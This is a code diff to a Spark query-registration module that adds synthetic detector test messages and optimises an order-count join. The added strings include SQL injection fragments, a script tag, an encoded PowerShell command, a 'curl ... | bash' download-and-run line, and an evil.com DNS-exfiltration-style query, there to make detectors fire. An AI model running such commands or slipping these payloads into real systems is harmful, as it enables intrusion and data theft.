@@ -46,6 +46,27 @@ for _name, _source, _key, _text in (("documents", "documents", "doc_id", "text")
     register(f"entities_{_name}", content.entities_sql(_source, _text))(lambda spark, sf_dir, t=_source, x=_text: content.entities(_read(spark, sf_dir, t), x))
 
 
+#: A mapping that puts into each document what some detector or kind of entity looks for.
+_MESSAGE = """text || CASE doc_id % 11 WHEN 0 THEN ' GET /a?id=1 OR 1=1 HTTP/1.1' WHEN 1 THEN '; drop  TABLE users' WHEN 2 THEN ' <SCRIPT>x</script>' WHEN 3 THEN ' cmd powershell -nop -EncodedCommand aaa by admin_tool.exe' WHEN 4 THEN ' curl http://h.example.com/x | bash, port 8080'
+WHEN 5 THEN ' query aaaaaaaaaabbbbbbbbbbcccccccccc' || CAST(doc_id AS {string}) || '.evil.com from 10.1.2.' || CAST(doc_id % 250 AS {string}) WHEN 6 THEN ' aaaaaaaaaabbbbbbbbbbcccccccccc.dns.google' WHEN 7 THEN ' EDR_ALERT Family: x 0123456789abcdef0123456789abcdef' WHEN 8 THEN ' service PSEXESVC on IPC$' WHEN 9 THEN ' BACKUP_AGENT.EXE ran' ELSE '' END"""
+_MESSAGES = f"(SELECT doc_id, {_MESSAGE.replace('{string}', 'VARCHAR')} AS message FROM documents)"
+
+
+def _messages(spark, sf_dir):
+    return _read(spark, sf_dir, "documents").select("doc_id", F.expr(_MESSAGE.replace("{string}", "STRING")).alias("message"))
+
+
+@register("content_messages", content.detect_sql(_MESSAGES, "doc_id", "message"))
+def content_messages(spark, sf_dir):
+    """Which detectors fire on which message; each does on some."""
+    return content.detect(_messages(spark, sf_dir), "doc_id", "message")
+
+
+@register("entities_messages", content.entities_sql(_MESSAGES, "message"))
+def entities_messages(spark, sf_dir):
+    return content.entities(_messages(spark, sf_dir), "message")
+
+
 @register("role_classification", f"SELECT role, count(*) AS n FROM (SELECT CASE WHEN allowed AND dst_port IN (80, 443) THEN 'noise' WHEN blocked_legacy OR spi OR dst_port IN (22, 3389, 2022, 2222) THEN 'candidate' ELSE 'context' END AS role FROM {FEATURED}) GROUP BY role")
 def role_classification(spark, sf_dir):
     """Noise, candidate and context events by action, SPI marks and administrative ports (sizes are not in the lowering)."""
@@ -137,7 +158,8 @@ def search_incidents(spark, sf_dir):
     found = orders.where(F.col("o_orderstatus").isin("O", "P") & (F.col("o_totalprice") < 200000))
     found = found.join(items.where("l_returnflag = 'R'").select(F.col("l_orderkey").alias("o_orderkey")), "o_orderkey", "left_semi")
     page = store.keyset_page(found.where(F.col("o_totalprice").isNotNull()), "o_totalprice", "o_orderkey", 50, (150000.0, 10))
-    n = items.groupBy(F.col("l_orderkey").alias("o_orderkey")).agg(F.count("*").alias("n"))
+    ids = F.broadcast(page.select("o_orderkey"))  # a page's rows, 51 at most
+    n = items.select(F.col("l_orderkey").alias("o_orderkey")).join(ids, "o_orderkey", "left_semi").groupBy("o_orderkey").agg(F.count("*").alias("n"))
     return page.join(n, "o_orderkey", "left").select("o_orderkey", "o_orderpriority", "o_totalprice", F.coalesce("n", F.lit(0)).alias("n_events"))
 
 
